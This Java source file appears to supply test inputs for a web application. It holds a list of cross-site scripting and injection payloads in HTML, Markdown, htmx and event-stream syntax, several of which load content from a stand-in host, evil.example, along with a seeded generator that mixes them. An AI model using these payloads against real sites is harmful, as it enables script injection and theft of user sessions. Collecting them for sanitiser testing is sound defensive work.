/*
 * Copyright 2026 the Bits authors
 * SPDX-License-Identifier: Apache-2.0
 */
package page.bits.app;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/// Texts that try to be more than text: in HTML, in attributes, in addresses, in Markdown, in htmx,
/// in the event stream. Every one says `evil` where it would do harm.
final class HostileTexts {
  private static final List<String> PARTS =
      List.of(
          "<script>evil()</script>",
          "<script src=//evil.example></script>",
          "</script><script>evil()//",
          "<img src=x onerror=evil()>",
          "<svg onload=evil()>",
          "<svg><script>evil()</script></svg>",
          "<iframe srcdoc='<script>evil()</script>'></iframe>",
          "<math><mi xlink:href='javascript:evil()'>x</mi></math>",
          "<a href='javascript:evil()'>x</a>",
          "<a href=\"java\nscript:evil()\">x</a>",
          "<form action=/evil><input name=evil></form>",
          "<button formaction=javascript:evil()>x</button>",
          "<object data=evil></object><embed src=evil>",
          "<meta http-equiv=refresh content='0;url=//evil.example'>",
          "<base href=//evil.example/>",
          "<link rel=stylesheet href=//evil.example>",
          "<style>*{background:url(//evil.example)}</style>",
          "<div style='background:url(//evil.example)' class=evil id=evil>x</div>",
          "<details open ontoggle=evil()>x</details>",
          "<b hx-get=/evil hx-trigger=load>x</b>",
          "<b data-hx-post=/evil hx-on:load=evil()>x</b>",
          "<hx-partial hx-target=\"#evil\" hx-swap=\"outerMorph\"><p>evil</p></hx-partial>",
          "</hx-partial><hx-partial hx-target=\"body\">evil</hx-partial>",
          "</div></div></li></ol></section></main><script>evil()</script>",
          "</textarea><script>evil()</script>",
          "</title><script>evil()</script>",
          "<!--><script>evil()</script>-->",
          "<![CDATA[<script>evil()</script>]]>",
          "<?xml evil?><!doctype evil>",
          "\" onmouseover=\"evil()",
          "' onfocus='evil()' autofocus='",
          "\"><script>evil()</script>",
          "`onclick=evil()`",
          "${evil} @if(evil) !{evil} {{evil}}",
          "[x](javascript:evil())",
          "[x](JaVaScRiPt:evil())",
          "[x](&#106;avascript:evil())",
          "[x](java&Tab;script:evil())",
          "[x]( javascript:evil() \"evil\")",
          "[x](data:text/html,<script>evil()</script>)",
          "[x](vbscript:evil())",
          "[x](//evil.example/a\" onclick=\"evil())",
          "[x](https://evil.example/\"onclick=evil()\")",
          "[x](https://example.org 'evil\" onload=evil()')",
          "![x](javascript:evil())",
          "![x\" onerror=\"evil()](https://evil.example/x.png)",
          "<javascript:evil()>",
          "<https://evil.example/<script>evil()</script>>",
          "[evil]: javascript:evil()\n\n[evil]",
          "```<script>evil()</script>\n<b hx-get=/evil>\n```",
          "    <script>evil()</script>",
          "> <script>evil()</script>\n> <b hx-post=/evil>",
          "1. <script>evil()</script>\n2. <img onerror=evil()>",
          "# <script>evil()</script> {#evil .evil onclick=evil()}",
          "\r\n\r\nevent: leave\r\ndata: evil\r\n\r\n",
          "\n\nid: 999999999-0000000000000000\ndata: evil\n\n",
          "\u2028\u2029\u0085data: evil",
          "\u202Elive\u202C \u0001\u0008\u001B[31mevil",
          "\uFEFF<script>evil()</script>\uFFFE",
          "&lt;script&gt;evil()&lt;/script&gt;",
          "&#60;script&#62;evil()&#60;/script&#62;",
          "%3Cscript%3Eevil()%3C/script%3E",
          "<scr<script>ipt>evil()</scr</script>ipt>",
          "<SCRIPT/SRC=//evil.example></SCRIPT>",
          "<a\fhref\f=\fjavascript:evil()>x</a>",
          "<noscript><p title=\"</noscript><img src=x onerror=evil()>\">",
          "<template><script>evil()</script></template>",
          "<xmp><script>evil()</script></xmp><plaintext>evil");

  private HostileTexts() {}

  /// So many texts, no two alike, the same for the same seed: each part alone, then mixtures.
  static List<String> some(int count, long seed) {
    var random = new Random(seed);
    var texts = new ArrayList<>(PARTS);
    while (texts.size() < count) {
      var text = new StringBuilder();
      int parts = 2 + random.nextInt(4);
      for (int i = 0; i < parts; i++) {
        String part = PARTS.get(random.nextInt(PARTS.size()));
        int from = random.nextInt(3) == 0 ? random.nextInt(part.length()) : 0;
        text.append(part, from, part.length()).append(random.nextBoolean() ? "" : "\n\n");
      }
      if (!text.toString().isBlank() && !texts.contains(text.toString())) {
        texts.add(text.toString());
      }
    }
    return List.copyOf(texts);
  }
}
